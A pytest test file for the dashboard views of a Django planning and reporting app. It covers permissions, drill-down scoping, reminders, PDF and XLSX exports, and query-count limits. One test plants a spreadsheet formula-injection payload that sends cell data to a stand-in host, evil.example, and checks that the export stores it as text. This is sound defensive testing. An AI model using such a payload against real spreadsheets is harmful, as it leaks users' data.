"""Dashboard views: permissions, drill-down scoping, query-count bounds, reminders, exports."""

import datetime
import io

import pytest
from django.urls import reverse

from reports.models import ReminderLog
from tests.dashboards.conftest import TODAY
from tests.dashboards.years_queries import YEARS_VERSION
from tests.directory.factories import UserFactory

pytestmark = pytest.mark.django_db

PAGES = ["home", "targets", "compliance", "obligations", "registry", "budget", "export_pdf", "export_xlsx"]


@pytest.fixture(autouse=True)
def frozen_today(monkeypatch):
    """The views read today's date from django.utils.timezone.localdate."""
    from django.utils import timezone

    monkeypatch.setattr(timezone, "localdate", lambda *a, **k: TODAY)


def url(name, *args, query="year=2025"):
    return f"{reverse(f'dashboards:{name}', args=args)}?{query}"


@pytest.mark.parametrize("name", PAGES)
def test_anonymous_redirected_to_login(client, world, name):
    response = client.get(url(name))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize("name", PAGES)
def test_reporter_forbidden(client_for, world, reporter_a, name):
    assert client_for(reporter_a).get(url(name)).status_code == 403


@pytest.mark.parametrize("name", ["home", "targets", "compliance", "obligations", "registry", "budget"])
def test_leader_and_planner_allowed(client_for, world, leader, planner, name):
    for user in (leader, planner):
        response = client_for(user).get(url(name))
        assert response.status_code == 200, (user, name)


@pytest.mark.parametrize("name", ["home", "targets", "compliance", "obligations", "registry", "budget", "export_xlsx"])
def test_out_of_area_drilldown_is_404(client_for, world, leader, name):
    other_unit = world["other_commune"].pk
    assert client_for(leader).get(url(name, query=f"year=2025&unit={other_unit}")).status_code == 404


def test_user_without_agency_is_404(client_for, world):
    lone = UserFactory(username="lone", agency=None, is_leader=True)
    assert client_for(lone).get(url("home")).status_code == 404


def test_home_figures_and_links(client_for, world, leader, district_a):
    response = client_for(leader).get(url("home"))
    ctx = response.context
    assert ctx["plans"]["active"] == 1
    assert ctx["targets"]["behind"] == 1 and ctx["targets"]["achieved"] == 1
    assert ctx["reports"]["missing"] == 2 and ctx["reports"]["late"] == 1
    cards = {c["key"]: c for c in ctx["report_cards"]}
    assert "state=missing" in cards["missing"]["url"] and "year=2025" in cards["missing"]["url"]
    content = response.content.decode()
    assert str(district_a) in content
    # Drill-down to a district keeps the filters and shows the path in the breadcrumbs.
    child = next(c for c in ctx["children"] if c.pk == district_a.pk)
    assert f"unit={district_a.pk}" in child.link and "year=2025" in child.link
    drilled = client_for(leader).get(child.link)
    assert drilled.context["reports"]["total"] == 3
    assert [label for label, _u in drilled.context["breadcrumbs"]][-1] == str(district_a)


def test_drill_down_list_of_missing_reports(client_for, world, leader):
    response = client_for(leader).get(url("obligations", query="year=2025&state=missing"))
    assert {o.pk for o in response.context["page_obj"]} == {
        world["obligations"]["q3a"].pk,
        world["obligations"]["q3b"].pk,
    }
    # Due 25/09/2025, today 01/10/2025: six days past the deadline.
    assert {o.days_late for o in response.context["page_obj"]} == {6}
    assert "quá hạn 6 ngày" in response.content.decode()
    late = client_for(leader).get(url("obligations", query="year=2025&state=late")).context["page_obj"]
    assert [(o.pk, o.days_late) for o in late] == [(world["obligations"]["q1b"].pk, 3)]  # 28/03 for 25/03
    on_time = client_for(leader).get(url("obligations", query="year=2025&state=on_time")).context["page_obj"]
    assert {o.days_late for o in on_time} == {None}


def test_targets_list_filters_by_status(client_for, world, leader):
    response = client_for(leader).get(url("targets", query="year=2025&status=behind"))
    assert [r["target"].pk for r in response.context["rows"]] == [world["targets"][0].pk]


def test_plan_progress(client_for, world, leader):
    plan = world["plan"]
    response = client_for(leader).get(url("plan_progress", plan.pk))
    assert response.status_code == 200
    rows = {r["target"].code: r for r in response.context["rows"]}
    assert rows["T1"]["actual"] == 9 and rows["T1"]["progress"].status == "behind"
    assert rows["T1"]["sparkline"]  # two periods → a polyline
    assert rows["T2"]["progress"].status == "achieved"
    assert rows["T3"]["progress"].status == "no_data"
    assert "<svg" in response.content.decode()


def test_plan_progress_permissions(client, client_for, world, leader, reporter_a):
    plan, other = world["plan"], world["other_plan"]
    assert client.get(url("plan_progress", plan.pk)).status_code == 302
    assert client_for(reporter_a).get(url("plan_progress", plan.pk)).status_code == 403
    assert client_for(leader).get(url("plan_progress", other.pk)).status_code == 404
    assert client_for(world["other_leader"]).get(url("plan_progress", other.pk)).status_code == 200


def test_compliance_matrix_page(client_for, world, leader, agency_b):
    response = client_for(leader).get(url("compliance"))
    rows = response.context["matrix"]["rows"]
    assert rows[0].agency_id == agency_b.pk
    assert "Send a reminder" in response.content.decode() or "Gửi nhắc nhở" in response.content.decode()
    # An unknown sort falls back to worst-first instead of failing.
    assert client_for(leader).get(url("compliance", query="year=2025&sort=drop")).status_code == 200


def test_admin_sees_the_country(client_for, world, admin_user):
    response = client_for(admin_user).get(url("home"))
    assert response.status_code == 200
    assert response.context["reports"]["total"] == 7  # 6 in Quảng Ngãi + 1 in Lai Châu


# ---- reminders


def test_remind_is_post_only(client_for, world, leader, agency_a):
    assert client_for(leader).get(url("remind")).status_code == 405


def test_remind_sends_exactly_once_and_logs(client_for, world, leader, agency_a, reporter_a):
    c = client_for(leader)
    response = c.post(url("remind"), {"agency": agency_a.pk}, follow=True)
    assert response.status_code == 200
    q3a = world["obligations"]["q3a"]
    logs = ReminderLog.objects.filter(obligation=q3a, kind="manual")
    assert logs.count() == 1 and logs.get().sent_by == leader
    messages = [str(m) for m in response.context["messages"]]
    assert messages and agency_a.name in messages[0]
    # A second click the same day sends nothing more.
    response = c.post(url("remind"), {"agency": agency_a.pk}, follow=True)
    assert ReminderLog.objects.filter(obligation=q3a, kind="manual").count() == 1
    from core.models import AuditLog

    assert AuditLog.objects.filter(action="dashboards.reminder", object_id=str(q3a.pk)).count() == 1


def test_remind_permissions(client, client_for, world, agency_a, reporter_a, leader):
    assert client.post(url("remind"), {"agency": agency_a.pk}).status_code == 302
    assert client_for(reporter_a).post(url("remind"), {"agency": agency_a.pk}).status_code == 403
    other = world["other_agency"]
    assert client_for(leader).post(url("remind"), {"agency": other.pk}).status_code == 404
    assert client_for(leader).post(url("remind"), {"agency": "x"}).status_code == 404
    assert not ReminderLog.objects.exists()


# ---- exports


def test_pdf_export(client_for, world, leader):
    response = client_for(leader).get(url("export_pdf"))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    body = b"".join(response) if response.streaming else response.content
    assert body.startswith(b"%PDF")
    from pypdf import PdfReader

    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert world["obligations"]["q1b"].agency.name.split()[0] in text


def test_xlsx_export(client_for, world, leader, district_a, district_b):
    from openpyxl import load_workbook

    response = client_for(leader).get(url("export_xlsx"))
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content), read_only=True)
    assert len(wb.sheetnames) >= 8
    # Every sheet: the official header block (rows 1-7), the table header on row 8.
    summary = list(wb[wb.sheetnames[0]].iter_rows(values_only=True))
    assert summary[0][2] == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
    assert summary[1][2] == "Độc lập - Tự do - Hạnh phúc"
    values = {row[0]: row[1] for row in summary[8:] if row and row[0]}
    assert 1 in values.values()  # one active plan
    compliance = list(wb[wb.sheetnames[2]].iter_rows(values_only=True))
    header = compliance[7]
    assert "Quý I/2025" in header
    agencies = [row[0] for row in compliance[8:]]
    assert agencies[0] == world["obligations"]["q1b"].agency.name
    # Units: what needs attention first (B has a late report), every count of the page.
    units = list(wb[wb.sheetnames[3]].iter_rows(values_only=True))
    assert [row[0] for row in units[8:]] == [str(district_b), str(district_a)]
    assert units[8][1:] == (None, 1, 1, 3, 0, 0, 0, 1, 0)
    assert units[9][1:] == (None, 1, 0, 3, 0, 0, 0, 3, 1)
    full = load_workbook(io.BytesIO(response.content))
    sheet = full[full.sheetnames[0]]
    assert sheet.page_setup.paperSize in (9, "9") and sheet.print_title_rows == "$8:$8"
    assert sheet["B9"].number_format == "[$-42A]#,##0"


def test_xlsx_export_keeps_hostile_names_as_text(client_for, world, leader):
    from openpyxl import load_workbook

    agency = world["obligations"]["q1b"].agency
    agency.name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
    agency.save()
    response = client_for(leader).get(url("export_xlsx"))
    wb = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if c.value == agency.name]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)


# ---- query counts


def _grow(world, n):
    """Add ``n`` agencies with reports, organisations and targets to the province."""
    from cooperatives.models import Organisation, YearlyRecord
    from tests.dashboards.conftest import make_obligation
    from tests.directory.factories import AgencyFactory, CommuneFactory
    from tests.plans.factories import IssuedPlanFactory, PlanTargetFactory

    plan = world["plan"]
    district = plan.issuer.unit.children.first()
    for i in range(n):
        commune = CommuneFactory(parent=district)
        agency = AgencyFactory(unit=commune)
        other_plan = IssuedPlanFactory(
            issuer=agency, period_start=datetime.date(2025, 1, 1), period_end=datetime.date(2025, 12, 31)
        )
        t = PlanTargetFactory(plan=other_plan, milestone_year=2025)
        PlanTargetFactory(plan=plan, code=f"X{i}", milestone_year=2025)
        for period in world["periods"].values():
            make_obligation(period, agency, "approved" if i % 2 else "not_started", datetime.date(2025, 3, 1), [(t, i)])
        org = Organisation.objects.create(kind="htx", name=f"HTX {i}", commune=commune, is_agricultural=bool(i % 2))
        YearlyRecord.objects.create(organisation=org, year=2024, rating="kha", revenue=1000 * i)


# Each page's bound includes one query for the year picker's years with data (issue 15).
@pytest.mark.parametrize("grow", [0, 12])
@pytest.mark.parametrize(
    "name,bound",
    [
        ("home", 15),
        ("targets", 8),
        ("compliance", 10),  # + the user's page size and the agencies counted for the pages (issue 18)
        ("obligations", 7),
        ("registry", 10 + YEARS_VERSION),
        ("budget", 9),  # SQLite; 7 on PostgreSQL (totals from the rows: test_budget_totals.py)
        ("export_xlsx", 23),  # SQLite; 21 on PostgreSQL (budget totals from the rows, issue 17)
        ("export_pdf", 31),  # 23 + the two commune maps, at most 4 queries each (issue 14)
    ],
)
def test_query_count_is_constant(client_for, world, leader, django_assert_max_num_queries, grow, name, bound):
    _grow(world, grow)
    c = client_for(leader)
    with django_assert_max_num_queries(bound):
        assert c.get(url(name)).status_code == 200


@pytest.mark.parametrize("grow", [0, 12])
def test_plan_progress_query_count(client_for, world, leader, django_assert_max_num_queries, grow):
    _grow(world, grow)
    c = client_for(leader)
    with django_assert_max_num_queries(8 + YEARS_VERSION):  # + the year picker's years with data (issue 15)
        assert c.get(url("plan_progress", world["plan"].pk)).status_code == 200


@pytest.mark.parametrize("grow", [0, 12])
def test_home_page_panel_query_count(client_for, world, leader, django_assert_max_num_queries, grow):
    _grow(world, grow)
    c = client_for(leader)
    response = c.get(reverse("home"))
    assert "dashboards/partials/home_panel.html" in [t.name for t in response.templates]


def test_registry_rows_link_to_the_registry_list(client_for, world, leader, province):
    response = client_for(leader).get(url("registry"))
    kinds = {k["kind"]: k for k in response.context["kinds"]}
    assert kinds["htx"]["total"] == 3
    list_url = reverse("cooperatives:organisation_list")
    assert kinds["htx"]["url"].startswith(list_url) and "kind=htx" in kinds["htx"]["url"]
    assert f"unit={province.pk}" in kinds["htx"]["url"]
    ratings = {r["rating"]: r for r in response.context["ratings"]}
    assert "rating=tot" in ratings["tot"]["url"] and "year=2024" in ratings["tot"]["url"]


def test_matrix_rows_link_to_the_agency_reports(client_for, world, leader, agency_a):
    content = client_for(leader).get(url("compliance")).content.decode()
    assert f"agency={agency_a.pk}" in content
    response = client_for(leader).get(url("obligations", query=f"year=2025&agency={agency_a.pk}"))
    assert {o.agency_id for o in response.context["page_obj"]} == {agency_a.pk}
    assert len(response.context["page_obj"].object_list) == 3


def test_demo_step_reports_the_demo_leaders_figures(world, province_agency):
    import io

    from dashboards import demo

    UserFactory(username="lanhdao", agency=province_agency, is_leader=True)
    out = io.StringIO()
    demo.load(stdout=out, today=TODAY)
    text = out.getvalue()
    assert "1 active plans" in text and "2 missing" in text and "1 late" in text


def _add_units(province, n):
    """``n`` current districts without data and ``n`` pre-07/2025 districts, every other one
    with an organisation (so it has data)."""
    from cooperatives.models import Organisation
    from tests.directory.factories import CommuneFactory, DistrictFactory

    ended = datetime.date(2025, 6, 30)
    for i in range(n):
        DistrictFactory(name=f"Huyện trống {i:02d}", parent=province)
        old = DistrictFactory(name=f"Huyện cũ {i:02d}", parent=province, valid_to=ended)
        if i % 2:
            commune = CommuneFactory(parent=old, valid_to=ended)
            Organisation.objects.create(kind="htx", name=f"HTX cũ {i}", commune=commune)


@pytest.mark.parametrize("grow", [0, 12])
def test_home_drill_down_query_count_with_many_units(
    client_for, world, leader, province, django_assert_max_num_queries, grow
):
    _grow(world, grow)
    _add_units(province, 2 + grow * 5)
    c = client_for(leader)
    # 14: the drill-down's target statuses are shared with the key figures (not read twice);
    # the user comes with their agency and unit, the lineage is one query (issue 17).
    with django_assert_max_num_queries(15):  # + the year picker's years with data (issue 15)
        assert c.get(url("home")).status_code == 200


def test_home_drill_down_groups_and_keeps_filters(client_for, world, leader, province, district_a, district_b):
    _add_units(province, 4)  # 4 empty current districts; old ones: 2 with data, 2 without
    client = client_for(leader)
    # Q3 2025 lies after the 2025 reform: only the units alive then are listed (the districts
    # that ended on 30/06/2025 are not; their data counts under their successors).
    response = client.get(url("home", query="year=2025&quarter=3"))
    (current,) = response.context["child_groups"]
    assert current["current"]
    # Q3: each district has one missing report, no late one; A has more organisations.
    assert [u.pk for u in current["with_data"]] == [district_a.pk, district_b.pk]
    assert [u.name for u in current["without_data"]] == [f"Huyện trống {i:02d}" for i in range(4)]
    html = response.content.decode()
    assert html.count('<details class="units-without-data') == 1
    assert "Huyện cũ" not in html
    # Every unit link, in the table and in the collapsed group, keeps year and quarter.
    for unit in [*current["with_data"], *current["without_data"]]:
        assert f'href="{unit.link.replace("&", "&amp;")}"' in html
        assert "year=2025" in unit.link and "quarter=3" in unit.link and f"unit={unit.pk}" in unit.link
    # Q2 2025, before the reform: the districts of the time form a second group.
    response = client.get(url("home", query="year=2025&quarter=2"))
    current, old = response.context["child_groups"]
    assert current["current"] and not old["current"]
    assert [u.name for u in old["with_data"]] == ["Huyện cũ 01", "Huyện cũ 03"]
    assert [u.name for u in old["without_data"]] == ["Huyện cũ 00", "Huyện cũ 02"]
    html = response.content.decode()
    assert html.count('<details class="units-without-data') == 2
    assert html.count('class="table table-sm table-hover align-middle dash-table drill-table"') == 2
    for unit in old["without_data"]:
        assert f'href="{unit.link.replace("&", "&amp;")}"' in html and "quarter=2" in unit.link


def test_home_drill_down_in_vietnamese(client_for, world, leader, province):
    _add_units(province, 1)  # one empty current district, one empty old district
    c = client_for(leader)
    c.cookies["django_language"] = "vi"
    html = c.get(url("home"), HTTP_ACCEPT_LANGUAGE="vi").content.decode()
    assert "1 đơn vị khác không có số liệu" in html  # current units: besides A and B
    assert '<summary class="small">1 đơn vị không có số liệu</summary>' in html  # old: none with data
    assert "Đơn vị trước 01/07/2025" in html and "Đơn vị hiện nay" in html


def test_home_empty_states_say_what_is_missing(client_for, world, leader):
    """A year without plans or reports: sentences, not tables of zeros."""
    c = client_for(leader)
    html = c.get(url("home", query="year=2030"), HTTP_ACCEPT_LANGUAGE="vi").content.decode()
    assert "Không có kế hoạch đang thực hiện nào của địa bàn có chỉ tiêu trong kỳ này (Năm 2030)." in html
    assert "Không có báo cáo nào của địa bàn đến hạn trong kỳ này (Năm 2030)." in html
    assert "Chưa có kinh phí được giao trong kỳ" in html
    assert 'class="stacked-bar"' not in html
    # 2025 has figures: the bars and their tables are there.
    html = c.get(url("home"), HTTP_ACCEPT_LANGUAGE="vi").content.decode()
    assert html.count('class="stacked-bar"') == 2 and "empty-state" not in html


def test_plan_progress_is_found_inside_the_users_area_only(client_for, world, agency_a, agency_b):
    """A district's leader sees the progress of the district's plans, not of the province above
    it nor of the district beside it; an administrator sees every plan (the plan is read by its
    key and placed by its issuer's unit path, as ``plans_in_area`` filters)."""
    from tests.directory.factories import UserFactory
    from tests.plans.factories import IssuedPlanFactory

    own = IssuedPlanFactory(issuer=agency_a, period_start=datetime.date(2025, 1, 1), period_end=datetime.date(2025, 12, 31))
    beside = IssuedPlanFactory(issuer=agency_b, period_start=datetime.date(2025, 1, 1), period_end=datetime.date(2025, 12, 31))
    district_leader = client_for(UserFactory(username="lanhdao_huyen", agency=agency_a, is_leader=True))
    assert district_leader.get(url("plan_progress", own.pk)).status_code == 200
    assert district_leader.get(url("plan_progress", beside.pk)).status_code == 404
    assert district_leader.get(url("plan_progress", world["plan"].pk)).status_code == 404  # the province's
    assert district_leader.get(url("plan_progress", 10**9)).status_code == 404
    admin = client_for(UserFactory(username="quantri", is_superuser=True, is_staff=True))
    for plan in (own, beside, world["plan"], world["other_plan"]):
        assert admin.get(url("plan_progress", plan.pk)).status_code == 200
